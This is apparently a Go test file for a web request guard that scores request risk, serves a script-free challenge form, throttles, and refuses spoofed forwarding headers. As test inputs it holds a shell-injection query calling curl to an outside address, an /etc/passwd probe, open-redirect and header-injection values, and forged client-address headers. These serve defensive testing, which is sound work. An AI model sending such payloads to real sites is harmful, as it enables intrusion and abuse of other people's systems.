package guard_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/kelisim/kelisim/geo"
	"github.com/kelisim/kelisim/internal/guard"
	"github.com/kelisim/kelisim/risk"
	"github.com/kelisim/kelisim/visit"
)

// judged is a guarded site that judges; its clock stands still unless it is moved.
type judged struct {
	*house
	mu   sync.Mutex
	time time.Time
	seen []*http.Request // that reached the site
}

func judge(t *testing.T, use guard.RiskUse, change func(*guard.Config)) *judged {
	t.Helper()
	j := &judged{time: early()()}
	j.house = build(t, func(c *guard.Config) {
		c.Now = j.now
		c.Risk = guard.Risk{Use: use, Capacity: 512}
		if change != nil {
			change(c)
		}
	})
	j.server.Config.Handler = j.guard.Handler(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		j.mu.Lock()
		j.seen = append(j.seen, r.Clone(r.Context()))
		j.mu.Unlock()
		if strings.HasPrefix(r.URL.Path, "/missing") {
			http.NotFound(w, r)
			return
		}
		v := j.guard.Verdict(w, r)
		w.Header().Set("X-Verdict", v.Action.String())
		page(w, r)
	}))
	j.header.Set("Accept-Language", "en")
	j.header.Set("Accept-Encoding", "identity;q=0.5, gzip;q=0")
	j.header.Set("Sec-Ch-Ua", `"Chromium";v="146"`)
	j.header.Set("Sec-Ch-Ua-Platform", `"Linux"`)
	return j
}

func (j *judged) now() time.Time {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.time
}

func (j *judged) wait(d time.Duration) {
	j.mu.Lock()
	defer j.mu.Unlock()
	j.time = j.time.Add(d)
}

const attack = "/search?q=$(curl%20http://192.0.2.1/a)"

// TestShadowChangesNothing: what is judged in shadow mode is answered as ever, and told.
func TestShadowChangesNothing(t *testing.T) {
	t.Parallel()
	j := judge(t, guard.RiskShadow, nil)
	for range 30 {
		if res, text := j.do("GET", attack, nil); res.StatusCode != 200 || !strings.Contains(text, "<p>page</p>") || res.Header.Get("X-Verdict") != "challenge" {
			t.Fatalf("status %d, verdict %q", res.StatusCode, res.Header.Get("X-Verdict"))
		}
	}
	events := j.guard.RiskEvents()
	if len(events) != 1 {
		t.Fatalf("%d events, want one a minute: %+v", len(events), events)
	}
	e := events[0]
	if e.Action != risk.ActionChallenge || e.Mode != risk.ModeShadow || e.Path != "/search" || e.Who == (risk.Pseudonym{}) || e.Reasons[0].Code != "code_injection" || e.Time.Second() != 0 {
		t.Errorf("event %+v", e)
	}
	if text := fmt.Sprintf("%+v", events); strings.Contains(text, "127.0.0.1") || strings.Contains(text, "curl") {
		t.Errorf("an event tells too much: %s", text)
	}
}

func TestOffJudgesNothing(t *testing.T) {
	t.Parallel()
	j := judge(t, guard.RiskOff, nil)
	if res, _ := j.do("GET", attack, nil); res.StatusCode != 200 || res.Header.Get("X-Verdict") != "allow" || j.guard.RiskEvents() != nil || j.guard.RiskEngine() != nil {
		t.Errorf("status %d, verdict %q", res.StatusCode, res.Header.Get("X-Verdict"))
	}
}

var field = regexp.MustCompile(`name="(\w+)" value="([^"]*)"`)

// fill reads the hidden fields of a challenge, and the two numbers of its question.
func fill(t *testing.T, text string) (form url.Values, sum int) {
	t.Helper()
	form = url.Values{}
	for _, m := range field.FindAllStringSubmatch(text, -1) {
		form.Set(m[1], strings.ReplaceAll(strings.ReplaceAll(m[2], "&amp;", "&"), "&#43;", "+"))
	}
	_, question, _ := strings.Cut(text, `<label for="answer">`)
	question, _, _ = strings.Cut(question, "</label>")
	words := map[string]int{"two": 2, "three": 3, "four": 4, "five": 5, "six": 6, "seven": 7, "eight": 8, "nine": 9}
	for _, word := range strings.FieldsFunc(question, func(r rune) bool { return r == ' ' || r == '?' }) {
		sum += words[word]
	}
	if form.Get("token") == "" || sum < 4 {
		t.Fatalf("no question: %s", text)
	}
	return form, sum
}

// TestAChallengeNeedsNoScriptAndNoCookie: the page is a form; the right answer leads back to where the visitor wanted to go, without
// any cookie, and evidence of before is no longer held against them.
func TestAChallengeNeedsNoScriptAndNoCookie(t *testing.T) {
	t.Parallel()
	j := judge(t, guard.RiskEnforce, nil)
	j.client.Jar = nil
	res, text := j.do("GET", attack, nil)
	if res.StatusCode != http.StatusForbidden || len(j.seen) != 0 || len(res.Cookies()) != 0 || strings.Contains(text, "<script") || !strings.Contains(res.Header.Get("Cache-Control"), "no-store") {
		t.Fatalf("status %d, %d reached the site, cookies %v, Cache-Control %q: %s", res.StatusCode, len(j.seen), res.Cookies(), res.Header.Get("Cache-Control"), text)
	}
	if strings.Contains(text, "/consent/choice") {
		t.Error("the banner is in it")
	}
	form, sum := fill(t, text)
	if form.Get("return") != attack {
		t.Errorf("return %q", form.Get("return"))
	}
	form.Set("answer", strconv.Itoa(sum+1))
	if res, text = j.do("POST", "/consent/answer", form); res.StatusCode != http.StatusForbidden || !strings.Contains(text, `role="alert"`) || len(res.Cookies()) != 0 {
		t.Fatalf("a wrong answer: %d %s", res.StatusCode, text)
	}
	form, sum = fill(t, text)
	form.Set("answer", " "+strconv.Itoa(sum)+" ")
	form.Set("return", "/fine?a=b")
	if res, _ = j.do("POST", "/consent/answer", form); res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/fine?a=b" || len(res.Cookies()) != 0 {
		t.Fatalf("the right answer: %d %v", res.StatusCode, res.Header)
	}
	if res, _ = j.do("GET", "/fine?a=b", nil); res.StatusCode != 200 || res.Header.Get("X-Verdict") != "log" {
		t.Errorf("behind it: %d %s", res.StatusCode, res.Header.Get("X-Verdict"))
	}
	if res, _ = j.do("POST", "/consent/answer", form); res.StatusCode != http.StatusForbidden {
		t.Errorf("the answer a second time: %d", res.StatusCode)
	}
}

// TestReceiptsAreCheckedWhereRequestsAreJudged: an answer to a challenge takes no path of the privacy centre.
func TestReceiptsAreCheckedWhereRequestsAreJudged(t *testing.T) {
	t.Parallel()
	for _, use := range []guard.RiskUse{guard.RiskShadow, guard.RiskEnforce} {
		j := judge(t, use, nil)
		r, err := http.NewRequest(http.MethodPost, j.server.URL+"/consent/check", strings.NewReader("{}"))
		if err != nil {
			t.Fatal(err)
		}
		r.Header = j.header.Clone()
		r.Header.Set("Content-Type", "application/json")
		r.Header.Set("Accept", "application/json")
		r.Header.Set("Sec-Fetch-Site", "same-origin")
		res, err := j.client.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		text, _ := io.ReadAll(res.Body)
		_ = res.Body.Close()
		if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(string(text), `"sound":false`) {
			t.Errorf("%v: %d %.300s", use, res.StatusCode, text)
		}
	}
}

// TestAnswersLeadNowhereElse: whatever a form says, the way goes on within the site.
func TestAnswersLeadNowhereElse(t *testing.T) {
	t.Parallel()
	for _, to := range []string{"//evil.example/", "https://evil.example/", `/\evil.example`, "javascript:alert(1)", "", "/a\r\nX: y", "/" + strings.Repeat("a", 5000)} {
		j := judge(t, guard.RiskEnforce, nil)
		_, text := j.do("GET", attack, nil)
		form, sum := fill(t, text)
		form.Set("answer", strconv.Itoa(sum))
		form.Set("return", to)
		if res, _ := j.do("POST", "/consent/answer", form); res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/" {
			t.Errorf("%.40q: %d, %q", to, res.StatusCode, res.Header.Get("Location"))
		}
	}
}

// TestThrottledClientsAreTold: 429 and a time to wait, after which they are served.
func TestThrottledClientsAreTold(t *testing.T) {
	t.Parallel()
	j := judge(t, guard.RiskEnforce, nil)
	j.do("GET", "/etc/passwd", nil) // 1 of the 10 that are served at once
	for i := range 9 {
		if res, _ := j.do("GET", "/", nil); res.StatusCode != 200 {
			t.Fatalf("the %dth: %d", i, res.StatusCode)
		}
	}
	res, text := j.do("GET", "/", nil)
	if res.StatusCode != http.StatusTooManyRequests || res.Header.Get("Retry-After") != "1" || !strings.Contains(text, "1 s") {
		t.Fatalf("status %d, Retry-After %q: %s", res.StatusCode, res.Header.Get("Retry-After"), text)
	}
	j.wait(time.Second)
	if res, _ := j.do("GET", "/", nil); res.StatusCode != 200 {
		t.Errorf("after the wait: %d", res.StatusCode)
	}
}

// TestDeniedVisitorsKeepTheirRights: who is refused everything still reaches the privacy centre.
func TestDeniedVisitorsKeepTheirRights(t *testing.T) {
	t.Parallel()
	j := judge(t, guard.RiskEnforce, func(c *guard.Config) {
		c.Risk.Rules.Rules = []risk.Rule{{Name: "no", Signal: []risk.Code{"code_injection"}, Then: risk.ActionDeny}}
	})
	for lang, word := range map[string]string{"kk": "орындалмады", "ru": "не выполнен", "en": "refused", "de": "refused"} {
		j.header.Set("Accept-Language", lang)
		res, text := j.do("GET", attack, nil)
		if res.StatusCode != http.StatusForbidden || !strings.Contains(text, word) || !strings.Contains(text, `href="/consent/"`) {
			t.Errorf("%s: %d %s", lang, res.StatusCode, text)
		}
	}
	if res, _ := j.do("GET", "/", nil); res.StatusCode != http.StatusForbidden {
		t.Errorf("the site: %d", res.StatusCode)
	}
	if res, _ := j.do("GET", "/consent/", nil); res.StatusCode != 200 {
		t.Errorf("the privacy centre: %d", res.StatusCode)
	}
	j.choose("reject")
}

// TestStepUpIsHandedToTheSite: by the verdict and by a header, which no visitor can forge.
func TestStepUpIsHandedToTheSite(t *testing.T) {
	t.Parallel()
	j := judge(t, guard.RiskEnforce, func(c *guard.Config) {
		c.Risk.Rules.Rules = []risk.Rule{{Name: "admins", Path: []string{"/admin"}, Then: risk.ActionStepUp}}
	})
	j.header.Set("Kelisim-Risk", "forged")
	j.header.Set("Kelisim_Risk", "allow") // the same to programs behind CGI or WSGI
	for path, want := range map[string]string{"/admin": "step_up", "/": ""} {
		j.seen = nil
		res, _ := j.do("GET", path, nil)
		if res.StatusCode != 200 || len(j.seen) != 1 || j.seen[0].Header.Get("Kelisim-Risk") != want {
			t.Errorf("%s: %d, %q, want %q", path, res.StatusCode, j.seen[0].Header.Get("Kelisim-Risk"), want)
		}
		if want != "" && j.seen[0].Header.Get("Kelisim_Risk") != "" {
			t.Error("a visitor contradicts the verdict")
		}
		if v := res.Header.Get("X-Verdict"); want != "" && v != want {
			t.Errorf("%s: verdict %q", path, v)
		}
	}
}

// TestStatusIsObserved: what the site answers counts, whatever way it answers.
func TestStatusIsObserved(t *testing.T) {
	t.Parallel()
	j := judge(t, guard.RiskEnforce, nil)
	for i := range 11 {
		if res, _ := j.do("GET", fmt.Sprintf("/missing/%d", i), nil); res.StatusCode != 404 {
			t.Fatalf("the %dth: %d", i, res.StatusCode)
		}
	}
	if res, _ := j.do("GET", "/", nil); res.Header.Get("X-Verdict") != "throttle" {
		t.Errorf("after eleven paths that are missing: %q", res.Header.Get("X-Verdict"))
	}
}

// brokenDates does not know how old it is, and panics.
type brokenDates struct{ geo.Locator }

func (brokenDates) Built() time.Time { panic("broken") }

// TestOurFaultsStopNobody: a panic within the judgement is ours alone.
func TestOurFaultsStopNobody(t *testing.T) {
	t.Parallel()
	table, err := geo.Embedded()
	if err != nil {
		t.Fatal(err)
	}
	j := judge(t, guard.RiskEnforce, func(c *guard.Config) {
		c.Locator = hosting{brokenDates{table}}
	})
	j.server.Config.Handler = j.guard.Handler(http.HandlerFunc(page))
	if res, text := j.do("GET", attack, nil); res.StatusCode != 200 || !strings.Contains(text, "/consent/choice") {
		t.Errorf("status %d: %s", res.StatusCode, text)
	}
	if n := j.guard.State().Faults; n == 0 {
		t.Error("the fault is not counted")
	}
}

// hosting places everybody in a data centre, so that the age of the data is asked for.
type hosting struct{ geo.Locator }

func (hosting) Locate(netip.Addr) geo.Location { return geo.Location{Net: geo.NetHosting} }

// TestForgedForwardingChangesNobody: whatever forwarding headers say, the address of the connection is judged where no proxy is trusted, and
// behind a proxy that which it wrote; nobody can have another stopped.
func TestForgedForwardingChangesNobody(t *testing.T) {
	t.Parallel()
	behind, err := visit.TrustCIDR(netip.MustParsePrefix("10.0.0.0/8"))
	if err != nil {
		t.Fatal(err)
	}
	hops, err := visit.TrustHops(1)
	if err != nil {
		t.Fatal(err)
	}
	named, err := visit.TrustHeader("X-Client-Address", netip.MustParsePrefix("10.0.0.0/8"))
	if err != nil {
		t.Fatal(err)
	}
	forged := []http.Header{
		{"X-Forwarded-For": {"203.0.113.66"}}, {"X-Forwarded-For": {"203.0.113.66, 203.0.113.67", "203.0.113.68"}}, {"X-Real-Ip": {"203.0.113.66"}}, {"Forwarded": {"for=203.0.113.66"}},
		{"Cf-Connecting-Ip": {"203.0.113.66"}}, {"True-Client-Ip": {"203.0.113.66"}}, {"X-Client-Ip": {"203.0.113.66"}}, {"X-Forwarded-For": {strings.Repeat("203.0.113.66,", 5000)}}, {"X-Forwarded-For": {"[::1]:80, unknown, _hidden"}},
		{"X-Forwarded-For": {"203.0.113.66:443"}}, {"X-Forwarded-For": {"::ffff:203.0.113.66"}}, {"X-Forwarded-For": {"203.0.113.66%eth0"}}, {"X-Forwarded-For": {"203.0.113.066"}}, {"X-Forwarded-For": {"203.0.113.66\x00"}},
		{"X-Forwarded-For": {""}}, {"X-Forwarded-For": {",,,,"}}, {"X-Forwarded-For": {"10.0.0.1, 10.0.0.2"}}, {"X-Forwarded-For": {"127.0.0.1"}}, {"Forwarded": {`for="[::ffff:203.0.113.66]:80";by=10.0.0.1, for=203.0.113.66`}},
		{"X-Client-Address": {"203.0.113.66"}}, {"x-forwarded-for": {"203.0.113.66"}}, {"X-Forwarded-For": {"２０３.0.113.66"}}, {"X-Forwarded-Host": {"203.0.113.66"}}, {"X-Envoy-External-Address": {"203.0.113.66"}}, {"Fastly-Client-Ip": {"203.0.113.66"}},
	}
	for _, row := range []struct {
		name           string
		trust          visit.Trust
		remote, judged string
		proxied        string // header to which the trusted proxy adds the address that it sees
	}{
		{"no proxy", visit.TrustDirect, "198.51.100.9:1", "198.51.100.9", ""}, {"around the proxy", behind, "198.51.100.9:1", "198.51.100.9", ""},
		{"through the proxy", behind, "10.0.0.1:1", "198.51.100.9", "X-Forwarded-For"}, {"one hop", hops, "10.0.0.1:1", "198.51.100.9", "X-Forwarded-For"},
		{"a header of the proxy's own", named, "10.0.0.1:1", "198.51.100.9", "X-Client-Address"}, {"around that", named, "198.51.100.9:1", "198.51.100.9", ""},
	} {
		j := judge(t, guard.RiskEnforce, func(c *guard.Config) { c.Trust = row.trust })
		handler := j.guard.Handler(http.HandlerFunc(page))
		for _, header := range forged {
			r := httptest.NewRequest("GET", attack, nil)
			r.Header, r.RemoteAddr = header.Clone(), row.remote
			switch row.proxied {
			case "":
			case "X-Forwarded-For": // proxies add a line, or to the last one
				r.Header.Add(row.proxied, row.judged)
			default: // and set what is their own
				r.Header.Set(row.proxied, row.judged)
			}
			w := httptest.NewRecorder()
			handler.ServeHTTP(w, r)
			if w.Code != http.StatusForbidden {
				t.Errorf("%s: %.80v: the attacker got %d", row.name, header, w.Code)
			}
		}
		if v := j.guard.RiskEngine().Standing(netip.MustParseAddr(row.judged), j.now()); v.Action < risk.ActionChallenge {
			t.Errorf("%s: the attacker stands at %v", row.name, v.Action)
		}
		if v := j.guard.RiskEngine().Standing(netip.MustParseAddr("203.0.113.66"), j.now()); v.Action != risk.ActionAllow {
			t.Errorf("%s: somebody else stands at %v", row.name, v.Action)
		}
	}
}

// TestHugeRequestsCostLittle: headers and targets of 60 KiB are judged like others.
func TestHugeRequestsCostLittle(t *testing.T) {
	t.Parallel()
	j := judge(t, guard.RiskShadow, nil)
	handler := j.guard.Handler(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "ok") }))
	big := strings.Repeat(`"%25'(../`, 7000)
	r := httptest.NewRequest("GET", "/", nil)
	r.RequestURI, r.URL.RawQuery = "/?"+big, big
	for _, key := range []string{"User-Agent", "Accept", "Accept-Language", "Accept-Encoding", "Sec-Ch-Ua", "Sec-Ch-Ua-Platform", "Sec-Fetch-Dest", "Referer"} {
		r.Header.Set(key, big)
	}
	best := time.Hour // of all: others may have the machine in between
	for range 100 {
		w := httptest.NewRecorder()
		begun := time.Now()
		handler.ServeHTTP(w, r)
		best = min(best, time.Since(begun))
		if w.Code != 200 {
			t.Fatalf("status %d", w.Code)
		}
	}
	if best > 20*time.Millisecond {
		t.Errorf("a request takes %v", best)
	}
}
